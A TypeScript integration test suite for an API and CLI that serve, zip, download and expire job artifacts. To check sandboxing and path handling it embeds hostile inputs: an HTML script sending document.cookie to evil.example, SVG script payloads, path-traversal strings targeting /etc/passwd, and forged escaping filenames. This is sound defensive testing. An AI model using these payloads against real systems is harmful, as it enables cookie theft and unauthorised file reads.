// Serving a job's artifacts from a real API process: artifacts are put in the folder store the API
// reads (ARTIFACT_STORE) and their events appended with EventStream, as a worker does. The list,
// one file (ETag, Range, disposition, sandboxing headers), the zip, paths that try to leave the
// job, a 100 MB file streamed with flat memory, the token gate, the CLI and the retention sweep.
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { artifactKey, contentTypeOf, EventStream, LocalArtifactStore, type NewJobEvent, redisKeys } from '@headway/progress';
import { Queue, Worker } from 'bullmq';
import { unzipSync } from 'fflate';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rssMb } from '../support/process-memory.ts';
import { createSentinel, type Sentinel } from '../support/sentinel.ts';
import { type ApiProcess, startStack, type TestStack } from '../support/test-stack.ts';
import { until } from '../support/until.ts';

const root = join(import.meta.dirname, '../..');
const TOKEN = 'artifact token';
const PREFIX = 'serve';
const keys = redisKeys(PREFIX);
const DAY = 24 * 3600_000;

let stack: TestStack;
let client: Redis;
let dir: string;
let store: LocalArtifactStore;
let stream: EventStream;
let queue: Queue;
let api: ApiProcess;
let tokenApi: ApiProcess;
let sentinel: Sentinel;

beforeAll(async () => {
  // The processes start once the store's folder, inside the stack's, is known.
  stack = await startStack({ prefix: PREFIX, api: false });
  ({ dir } = stack);
  client = new Redis(stack.redis.url, { protocol: 2, maxRetriesPerRequest: null });
  store = new LocalArtifactStore(join(dir, 'store'));
  stream = new EventStream(client, keys, { maxLen: 1000 });
  queue = new Queue('pipelines', { connection: client, prefix: PREFIX });
  const env = { ARTIFACT_STORE: store.root };
  [api, tokenApi] = await Promise.all([stack.startApi(env), stack.startApi({ ...env, API_TOKEN: TOKEN }), stack.addWorker(env)]);
  sentinel = await createSentinel(api.url);
});

afterAll(async () => {
  await queue?.close();
  client?.disconnect();
  await stack?.stop();
});

const sha256 = (bytes: Uint8Array | string) => createHash('sha256').update(bytes).digest('hex');

/** A job no worker takes (delayed a day): it only holds artifacts. */
async function holderJob(): Promise<string> {
  const job = await queue.add('literature-review', { input: {} }, { delay: DAY });
  return job.id!;
}

interface PutOptions {
  attempt?: number;
  contentType?: string;
  title?: string;
  stage?: string;
}

/** Stores `body` as the job's artifact and appends its event, as a worker publishes one. */
async function putArtifact(jobId: string, name: string, body: string | Uint8Array | ReadableStream<Uint8Array>, options: PutOptions = {}) {
  const { attempt = 1, contentType = contentTypeOf(name), title, stage = 'finalization' } = options;
  const source = body instanceof ReadableStream ? body : new Blob([body as BlobPart]).stream();
  const stored = await store.put(artifactKey(jobId, attempt, name), source, { contentType, maxBytes: 200 * 1024 * 1024 });
  const event: NewJobEvent = {
    kind: 'artifact',
    jobId,
    attempt,
    ts: new Date().toISOString(),
    stage,
    name,
    contentType,
    ...stored,
    ...(title && { title }),
  };
  await stream.append(jobId, [event]);
  return stored;
}

const get = (path: string, headers: Record<string, string> = {}) => fetch(api.url + path, { headers, signal: AbortSignal.timeout(30_000) });

const REPORT = '# Report\n\n![radar](charts/radar.svg)\n';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><rect width="4" height="4"/></svg>';
const SECRET = 'the-other-jobs-secret-bytes';
const HTML = '<!doctype html><script>fetch("https://evil.example/?c=" + document.cookie)</script>';

describe('serving artifacts', () => {
  let jobId: string;

  beforeAll(async () => {
    jobId = await holderJob();
    await putArtifact(jobId, 'report.md', 'first attempt\n');
    await putArtifact(jobId, 'report.md', REPORT, { attempt: 2, title: 'The report' });
    await putArtifact(jobId, 'charts/radar.svg', SVG, { attempt: 2, stage: 'visualization' });
    await putArtifact(jobId, 'data/rows.csv', 'a,b\n1,2\n', { attempt: 2 });
    await putArtifact(jobId, 'page.html', HTML, { attempt: 2 });
    await putArtifact(jobId, 'blob.bin', new Uint8Array([0, 1, 2, 3, 4, 5, 6, 7, 8, 9]), { attempt: 2 });
    await putArtifact(jobId, 'notes/ünïcode “name”.txt', 'hello', { attempt: 2 });
  });

  it('lists every attempt’s artifacts in the order they were published, with their events’ facts', async () => {
    const res = await get(`/api/jobs/${jobId}/artifacts`);
    expect(res.status).toBe(200);
    const { artifacts } = (await res.json()) as { artifacts: Record<string, unknown>[] };
    expect(artifacts.map((a) => [a.name, a.attempt])).toEqual([
      ['report.md', 1],
      ['report.md', 2],
      ['charts/radar.svg', 2],
      ['data/rows.csv', 2],
      ['page.html', 2],
      ['blob.bin', 2],
      ['notes/ünïcode “name”.txt', 2],
    ]);
    expect(artifacts[1]).toEqual({
      name: 'report.md',
      size: REPORT.length,
      contentType: 'text/markdown; charset=utf-8',
      sha256: sha256(REPORT),
      stage: 'finalization',
      attempt: 2,
      title: 'The report',
      createdAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
    });
    expect(artifacts[2]).toMatchObject({ stage: 'visualization' });
    expect((await get('/api/jobs/no-such-job/artifacts')).status).toBe(404);
    const other = await holderJob();
    expect(await (await get(`/api/jobs/${other}/artifacts`)).json()).toEqual({ artifacts: [] });
  });

  it('serves the newest attempt’s file by default, an older one with ?attempt, sandboxed, with its type, length and ETag', async () => {
    const res = await get(`/api/jobs/${jobId}/artifacts/report.md`);
    expect(res.status).toBe(200);
    expect(await res.text()).toBe(REPORT);
    expect(Object.fromEntries(res.headers)).toMatchObject({
      'content-type': 'text/markdown; charset=utf-8',
      'content-length': String(REPORT.length),
      etag: `"${sha256(REPORT)}"`,
      'accept-ranges': 'bytes',
      'content-disposition': `inline; filename="report.md"; filename*=UTF-8''report.md`,
      'content-security-policy': "sandbox; default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline'",
      'x-content-type-options': 'nosniff',
      'cross-origin-resource-policy': 'same-origin',
    });
    const first = await get(`/api/jobs/${jobId}/artifacts/report.md?attempt=1`);
    expect(await first.text()).toBe('first attempt\n');
    expect((await get(`/api/jobs/${jobId}/artifacts/report.md?attempt=3`)).status).toBe(404);
    expect((await get(`/api/jobs/${jobId}/artifacts/missing.md`)).status).toBe(404);
  });

  it('answers 304 to a matching If-None-Match, and the whole file to another', async () => {
    const etag = `"${sha256(REPORT)}"`;
    const same = await get(`/api/jobs/${jobId}/artifacts/report.md`, { 'if-none-match': etag });
    expect(same.status).toBe(304);
    expect(await same.text()).toBe('');
    expect(same.headers.get('etag')).toBe(etag);
    const other = await get(`/api/jobs/${jobId}/artifacts/report.md`, { 'if-none-match': `"${'0'.repeat(64)}"` });
    expect(other.status).toBe(200);
    expect(await other.text()).toBe(REPORT);
  });

  it('answers one Range with 206 and Content-Range, and 416 past the end', async () => {
    const path = `/api/jobs/${jobId}/artifacts/blob.bin`;
    const middle = await get(path, { range: 'bytes=2-5' });
    expect(middle.status).toBe(206);
    expect(middle.headers.get('content-range')).toBe('bytes 2-5/10');
    expect(middle.headers.get('content-length')).toBe('4');
    expect([...new Uint8Array(await middle.arrayBuffer())]).toEqual([2, 3, 4, 5]);
    const tail = await get(path, { range: 'bytes=-3' });
    expect(tail.status).toBe(206);
    expect([...new Uint8Array(await tail.arrayBuffer())]).toEqual([7, 8, 9]);
    const open = await get(path, { range: 'bytes=8-' });
    expect(open.headers.get('content-range')).toBe('bytes 8-9/10');
    const past = await get(path, { range: 'bytes=10-20' });
    expect(past.status).toBe(416);
    expect(past.headers.get('content-range')).toBe('bytes */10');
    const several = await get(path, { range: 'bytes=0-1,4-5' });
    expect(several.status).toBe(200);
    expect((await several.arrayBuffer()).byteLength).toBe(10);
  });

  it('shows previews inline and makes HTML and unknown bytes downloads, never inline', async () => {
    const cases: [string, string, string][] = [
      ['charts/radar.svg', 'image/svg+xml', 'inline; filename="radar.svg"'],
      ['data/rows.csv', 'text/csv; charset=utf-8', 'inline; filename="rows.csv"'],
      ['page.html', 'text/html; charset=utf-8', 'attachment; filename="page.html"'],
      ['blob.bin', 'application/octet-stream', 'attachment; filename="blob.bin"'],
    ];
    for (const [name, type, disposition] of cases) {
      const res = await get(`/api/jobs/${jobId}/artifacts/${name}`);
      expect(res.status, name).toBe(200);
      expect(res.headers.get('content-type'), name).toBe(type);
      expect(res.headers.get('content-disposition'), name).toContain(disposition);
      expect(res.headers.get('content-security-policy'), name).toMatch(/^sandbox; default-src 'none'/);
      expect(res.headers.get('x-content-type-options'), name).toBe('nosniff');
    }
    const forced = await get(`/api/jobs/${jobId}/artifacts/charts/radar.svg?download=1`);
    expect(forced.headers.get('content-disposition')).toBe(`attachment; filename="radar.svg"; filename*=UTF-8''radar.svg`);
    const unicode = await get(`/api/jobs/${jobId}/artifacts/notes/${encodeURIComponent('ünïcode “name”.txt')}?download=1`);
    expect(unicode.status).toBe(200);
    expect(await unicode.text()).toBe('hello');
    expect(unicode.headers.get('content-disposition')).toBe(
      `attachment; filename="_n_code _name_.txt"; filename*=UTF-8''%C3%BCn%C3%AFcode%20%E2%80%9Cname%E2%80%9D.txt`,
    );
  });

  it('refuses names that climb out, are absolute or hold backslashes with 4xx, and reads nothing outside the job', async () => {
    const victim = await holderJob();
    await putArtifact(victim, 'secret.txt', SECRET);
    const before = await sentinel.snapshot();
    const tries = [
      `..%2F..%2F${victim}%2F1%2Fsecret.txt`,
      `..%2f${victim}%2f1%2fsecret.txt`,
      `%2e%2e/%2e%2e/${victim}/1/secret.txt`,
      `%2E%2E%2F%2E%2E%2F${victim}%2F1%2Fsecret.txt`,
      `2/..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd`,
      '%2Fetc%2Fpasswd',
      '/etc/passwd',
      '..%5C..%5Csecret.txt',
      'a%5Cb.txt',
      `%2e%2e%5c%2e%2e%5c${victim}%5c1%5csecret.txt`,
      'report.md%00.txt',
      `1/secret.txt`,
      `../${victim}/1/secret.txt`,
    ];
    for (const path of tries) {
      const res = await fetch(`${api.url}/api/jobs/${jobId}/artifacts/${path}`);
      const text = await res.text();
      expect(res.status, path).toBeGreaterThanOrEqual(400);
      expect(res.status, path).toBeLessThan(500);
      expect(text, path).not.toContain(SECRET);
      expect(text, path).not.toContain('root:');
    }
    // Raw request lines, which fetch would have normalised. Bun resolves dot segments before
    // routing (so ../../<job>/artifacts/x is that job's own URL, under the same access rules);
    // backslashes and encoded dots reach the route and are refused.
    const raw = [
      `/api/jobs/${jobId}/artifacts/..\\..\\${victim}\\1\\secret.txt`,
      `/api/jobs/${jobId}/artifacts/%2e%2e/%2e%2e/%2e%2e/${victim}/1/secret.txt`,
      `/api/jobs/${jobId}/artifacts/.%2e/.%2e/${victim}/1/secret.txt`,
    ];
    for (const path of raw) {
      const answer = await rawGet(path);
      expect(answer, path).toMatch(/^HTTP\/1\.1 4\d\d /);
      expect(answer, path).not.toContain(SECRET);
    }
    const climbed = await rawGet(`/api/jobs/${jobId}/artifacts/../../../../../../etc/passwd`);
    expect(climbed).not.toContain('root:');
    expect(await sentinel.snapshot()).toBe(before);
    await sentinel.expectUnchanged();
  });

  it('zips every artifact of the newest attempt, byte for byte, or of the attempt asked for', async () => {
    const res = await get(`/api/jobs/${jobId}/artifacts.zip`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/zip');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="job-${jobId}-artifacts.zip"`);
    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));
    expect(Object.keys(files).sort()).toEqual([
      'blob.bin',
      'charts/radar.svg',
      'data/rows.csv',
      'notes/ünïcode “name”.txt',
      'page.html',
      'report.md',
    ]);
    expect(new TextDecoder().decode(files['report.md'])).toBe(REPORT);
    expect(new TextDecoder().decode(files['charts/radar.svg'])).toBe(SVG);
    expect([...files['blob.bin']!]).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8, 9]);
    const first = unzipSync(new Uint8Array(await (await get(`/api/jobs/${jobId}/artifacts.zip?attempt=1`)).arrayBuffer()));
    expect(Object.keys(first)).toEqual(['report.md']);
    expect(new TextDecoder().decode(first['report.md'])).toBe('first attempt\n');
    expect((await get(`/api/jobs/${await holderJob()}/artifacts.zip`)).status).toBe(404);
  });

  it('streams a 100 MB artifact down with the API’s memory growing less than 30 MB', async () => {
    const big = await holderJob();
    const MB = 1024 * 1024;
    const chunk = crypto.getRandomValues(new Uint8Array(MB));
    let sent = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent === 100) return controller.close();
        // Each MB differs in its first bytes, so a repeated or skipped chunk changes the hash.
        const copy = chunk.slice();
        new DataView(copy.buffer).setUint32(0, sent++);
        controller.enqueue(copy);
      },
    });
    const stored = await putArtifact(big, 'big.bin', body);
    expect(stored.size).toBe(100 * MB);
    await (await get(`/api/jobs/${jobId}/artifacts/blob.bin`)).arrayBuffer();
    const before = rssMb(api.proc.pid);
    let peak = before;
    const sampler = setInterval(() => (peak = Math.max(peak, rssMb(api.proc.pid))), 20);
    const started = performance.now();
    const res = await get(`/api/jobs/${big}/artifacts/big.bin`);
    expect(res.headers.get('content-length')).toBe(String(100 * MB));
    const hash = createHash('sha256');
    let received = 0;
    for await (const part of res.body as unknown as AsyncIterable<Uint8Array>) {
      hash.update(part);
      received += part.byteLength;
    }
    const seconds = (performance.now() - started) / 1000;
    clearInterval(sampler);
    expect(received).toBe(100 * MB);
    expect(hash.digest('hex')).toBe(stored.sha256);
    const growth = peak - before;
    console.log(`100 MB down in ${seconds.toFixed(2)} s (${(100 / seconds).toFixed(0)} MB/s), API RSS +${growth.toFixed(1)} MB`);
    expect(growth).toBeLessThan(30);

    // The zip reads the same file a chunk at a time as the client reads the archive. Its first
    // download grows the API once, by 35 to 60 MB here as the collector lets read chunks pile up
    // (a bare Bun server streaming JS chunks grows 26 MB for 100 MB and 30 MB for 300 MB: not
    // with size), and no more after that; a zip held whole would add at least its 100 MB.
    await (await get(`/api/jobs/${jobId}/artifacts.zip`)).arrayBuffer();
    const [first, second] = [await zipDown(big), await zipDown(big)];
    console.log(`100 MB zip down: API RSS +${first.toFixed(1)} MB the first time, +${second.toFixed(1)} MB the second`);
    // Bounds with room for a busy CI machine, each well below the 100 MB a zip held whole adds.
    expect(first).toBeLessThan(80);
    expect(second).toBeLessThan(50);
  });

  it('counts the newest attempt’s artifacts in the job’s summary and in the list, from the worker’s snapshot', async () => {
    const counted = await queue.add('literature-review', { input: {} }, { delay: DAY });
    expect(((await (await get(`/api/jobs/${counted.id}`)).json()) as { artifacts?: number }).artifacts).toBeUndefined();
    await counted.updateProgress({ percentage: 40, stage: 'visualization', artifacts: 3 });
    expect(((await (await get(`/api/jobs/${counted.id}`)).json()) as { artifacts?: number }).artifacts).toBe(3);
    const list = (await (await get('/api/jobs?status=waiting&limit=200')).json()) as { jobs: { id: string; artifacts?: number }[] };
    expect(list.jobs.find((j) => j.id === counted.id)?.artifacts).toBe(3);
  });

  it('documents the three routes in the OpenAPI document, with the list’s response schema', async () => {
    const doc = (await (await get('/openapi/json')).json()) as { paths: Record<string, { get?: { responses?: Record<string, unknown> } }> };
    const paths = Object.keys(doc.paths).filter((p) => p.includes('artifacts'));
    expect(paths.sort()).toEqual(['/api/jobs/{id}/artifacts', '/api/jobs/{id}/artifacts.zip', '/api/jobs/{id}/artifacts/*'].sort());
    expect(JSON.stringify(doc.paths['/api/jobs/{id}/artifacts']?.get?.responses?.['200'])).toContain('sha256');
  });

  it('needs the token when the API has one', async () => {
    const paths = [`/api/jobs/${jobId}/artifacts`, `/api/jobs/${jobId}/artifacts/report.md`, `/api/jobs/${jobId}/artifacts.zip`];
    for (const path of paths) {
      const res = await fetch(tokenApi.url + path);
      expect(res.status, path).toBe(401);
      expect(((await res.json()) as { error: { code: string } }).error.code).toBe('UNAUTHORIZED');
      const allowed = await fetch(tokenApi.url + path, { headers: { authorization: `Bearer ${TOKEN}` } });
      expect(allowed.status, path).toBe(200);
      await allowed.arrayBuffer();
    }
  });
});

/** Downloads the job's zip; how much the API's RSS grew meanwhile, in MB. */
async function zipDown(jobId: string): Promise<number> {
  const before = rssMb(api.proc.pid);
  let peak = before;
  const sampler = setInterval(() => (peak = Math.max(peak, rssMb(api.proc.pid))), 20);
  const res = await get(`/api/jobs/${jobId}/artifacts.zip`);
  let zipped = 0;
  for await (const part of res.body as unknown as AsyncIterable<Uint8Array>) zipped += part.byteLength;
  clearInterval(sampler);
  expect(zipped).toBeGreaterThan(100 * 1024 * 1024);
  expect(zipped).toBeLessThan(100 * 1024 * 1024 + 1024);
  return Math.max(peak, rssMb(api.proc.pid)) - before;
}

/** A GET sent as written, without the client resolving dot segments or backslashes. */
async function rawGet(path: string): Promise<string> {
  const { hostname, port } = new URL(api.url);
  let answer = '';
  await new Promise<void>((resolve, reject) => {
    Bun.connect({
      hostname,
      port: Number(port),
      socket: {
        open(socket) {
          socket.write(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`);
        },
        data(_socket, data) {
          answer += data.toString();
        },
        close: () => resolve(),
        error: (_socket, error) => reject(error),
      },
    }).catch(reject);
  });
  return answer;
}

/** Runs `headway …` against the API; its exit code and what it printed. */
async function headway(...args: string[]) {
  const proc = Bun.spawn([process.execPath, 'apps/cli/src/main.ts', ...args], {
    cwd: root,
    env: { ...process.env, HEADWAY_API_URL: api.url, NO_COLOR: '1' },
    stdout: 'pipe',
    stderr: 'pipe',
  });
  const [code, stdout, stderr] = await Promise.all([proc.exited, new Response(proc.stdout).text(), new Response(proc.stderr).text()]);
  return { code, stdout, stderr };
}

describe('headway artifacts', () => {
  let jobId: string;

  beforeAll(async () => {
    jobId = await holderJob();
    await putArtifact(jobId, 'report.md', 'first attempt\n');
    await putArtifact(jobId, 'report.md', REPORT, { attempt: 2, title: 'The report' });
    await putArtifact(jobId, 'charts/radar.svg', SVG, { attempt: 2, stage: 'visualization' });
  });

  it('lists every attempt’s artifacts with size, type, stage, attempt and title', async () => {
    const { code, stdout } = await headway('artifacts', jobId);
    expect(code).toBe(0);
    expect(
      stdout
        .split('\n')
        .filter(Boolean)
        .map((line) => line.split(/\s{2,}/)),
    ).toEqual([
      ['NAME', 'SIZE', 'TYPE', 'STAGE', 'ATTEMPT', 'TITLE'],
      ['report.md', '14 B', 'text/markdown', 'finalization', '1'],
      ['report.md', `${REPORT.length} B`, 'text/markdown', 'finalization', '2', 'The report'],
      ['charts/radar.svg', `${SVG.length} B`, 'image/svg+xml', 'visualization', '2'],
    ]);
    const unknown = await headway('artifacts', 'no-such-job');
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain('No job with id "no-such-job"');
    const missing = await headway('artifacts', jobId, 'nope.md');
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('has no artifact "nope.md"');
  });

  it('downloads the newest attempt’s artifacts into their folders, or the ones named, checked against their SHA-256', async () => {
    const into = join(dir, 'cli-all');
    const all = await headway('artifacts', jobId, '--download', into);
    expect(all.code, all.stderr).toBe(0);
    expect(readFileSync(join(into, 'report.md'), 'utf8')).toBe(REPORT);
    expect(readFileSync(join(into, 'charts/radar.svg'), 'utf8')).toBe(SVG);
    expect(readdirSync(into, { recursive: true }).sort()).toEqual(['charts', 'charts/radar.svg', 'report.md']);
    const older = join(dir, 'cli-first');
    const first = await headway('artifacts', jobId, 'report.md', '--attempt', '1', '--download', older);
    expect(first.code, first.stderr).toBe(0);
    expect(readdirSync(older)).toEqual(['report.md']);
    expect(readFileSync(join(older, 'report.md'), 'utf8')).toBe('first attempt\n');
  });

  it('refuses a name that would leave the folder, and a file whose bytes do not match the list', async () => {
    const hostile = await holderJob();
    // Events a worker would never write (it checks names and hashes): the CLI checks again.
    const ts = new Date().toISOString();
    const forged = (name: string, sha256: string, size: number): NewJobEvent => ({
      kind: 'artifact',
      jobId: hostile,
      attempt: 1,
      ts,
      name,
      contentType: 'text/plain',
      sha256,
      size,
    });
    const stored = await store.put(artifactKey(hostile, 1, 'ok.txt'), new Blob(['fine']).stream(), {
      contentType: 'text/plain',
      maxBytes: 100,
    });
    await store.put(artifactKey(hostile, 1, 'changed.txt'), new Blob(['tampered']).stream(), { contentType: 'text/plain', maxBytes: 100 });
    await stream.append(hostile, [
      forged('../escaped.txt', stored.sha256, stored.size),
      forged('/tmp/absolute.txt', stored.sha256, stored.size),
      forged('changed.txt', sha256('original'), 8),
      forged('ok.txt', stored.sha256, stored.size),
    ]);
    const into = join(dir, 'cli-hostile', 'inside');
    const run = await headway('artifacts', hostile, '--download', into);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('../escaped.txt: refused');
    expect(run.stderr).toContain('/tmp/absolute.txt: refused');
    expect(run.stderr).toContain('changed.txt: the download does not match the list');
    expect(readdirSync(join(dir, 'cli-hostile'))).toEqual(['inside']);
    expect(readdirSync(into)).toEqual(['ok.txt']);
    expect(existsSync('/tmp/absolute.txt')).toBe(false);
  });
});

describe('the retention sweep', () => {
  const sweepKeys = redisKeys('sweep');
  let sweepStore: LocalArtifactStore;
  let sweepStream: EventStream;
  let sweepQueue: Queue;
  let sweepApi: ApiProcess | undefined;

  beforeAll(async () => {
    sweepStore = new LocalArtifactStore(join(dir, 'sweep-store'));
    sweepStream = new EventStream(client, sweepKeys, { maxLen: 1000 });
    sweepQueue = new Queue('pipelines', { connection: client, prefix: 'sweep' });
  });

  afterAll(async () => {
    await sweepApi?.stop();
    await sweepQueue?.close();
  });

  async function publish(jobId: string, name: string) {
    const stored = await sweepStore.put(artifactKey(jobId, 1, name), new Blob([name]).stream(), {
      contentType: 'text/plain',
      maxBytes: 1024,
    });
    await sweepStream.append(jobId, [
      { kind: 'artifact', jobId, attempt: 1, ts: new Date().toISOString(), name, contentType: 'text/plain', ...stored },
    ]);
  }
  const kept = (jobId: string) => existsSync(join(sweepStore.root, 'jobs', jobId, '1'));

  it('removes the artifacts of jobs finished past retention or gone from BullMQ, keeps a live job’s, and waits for the lock', async () => {
    // A job that finished: completed by a BullMQ worker here.
    const finished = await sweepQueue.add('literature-review', { input: {} });
    const completer = new Worker('pipelines', async () => 'done', {
      connection: client.duplicate({ maxRetriesPerRequest: null }),
      prefix: 'sweep',
    });
    await until(
      () => finished.getState(),
      (state) => state === 'completed',
    );
    await completer.close();
    await publish(finished.id!, 'report.md');
    // A job still waiting, and one BullMQ has removed whose artifact index has expired.
    const live = (await sweepQueue.add('literature-review', { input: {} }, { delay: DAY })).id!;
    await publish(live, 'report.md');
    const removed = (await sweepQueue.add('literature-review', { input: {} }, { delay: DAY })).id!;
    await publish(removed, 'report.md');
    await sweepQueue.remove(removed);
    await client.del(sweepKeys.artifacts(removed));
    // What a writer killed mid-upload left an hour ago, and one writing now.
    const partials = join(sweepStore.root, '.partial');
    mkdirSync(partials, { recursive: true });
    writeFileSync(join(partials, 'old'), 'half');
    const anHourAgo = new Date(Date.now() - 3700_000);
    utimesSync(join(partials, 'old'), anHourAgo, anHourAgo);
    writeFileSync(join(partials, 'new'), 'half');

    // Another API holds the lock: this one does not sweep.
    await client.set(sweepKeys.artifactSweepLock, 'another api', 'EX', 3600);
    sweepApi = await stack.startApi({
      QUEUE_PREFIX: 'sweep',
      DATA_DIR: join(dir, 'sweep-data'),
      ARTIFACT_STORE: sweepStore.root,
      ARTIFACT_RETENTION_SECONDS: '2',
      ARTIFACT_SWEEP_SECONDS: '1',
    });
    await Bun.sleep(3000);
    expect([kept(finished.id!), kept(live), kept(removed)]).toEqual([true, true, true]);

    await client.del(sweepKeys.artifactSweepLock);
    await until(
      async () => [kept(finished.id!), kept(removed)],
      (k) => !k[0] && !k[1],
    );
    expect(kept(live)).toBe(true);
    const res = await fetch(`${sweepApi.url}/api/jobs/${live}/artifacts/report.md`);
    expect(await res.text()).toBe('report.md');
    expect(readdirSync(partials)).toEqual(['new']);
    expect(await client.ttl(sweepKeys.artifactSweepLock)).toBeGreaterThan(0);
    await sentinel.expectUnchanged();
  });
});
